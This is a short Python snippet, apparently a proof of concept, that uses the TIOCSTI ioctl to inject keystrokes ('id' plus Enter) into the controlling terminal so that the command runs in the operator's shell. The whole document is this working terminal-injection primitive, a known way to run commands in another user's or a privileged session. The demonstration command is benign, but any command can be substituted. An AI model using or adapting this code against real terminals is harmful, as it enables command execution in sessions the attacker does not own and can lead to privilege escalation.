# TIOCSTI pushes characters into the controlling terminal's input: a command typed into the operator's shell
import fcntl
import termios

for ch in "id\n":
    fcntl.ioctl(0, termios.TIOCSTI, ch.encode())
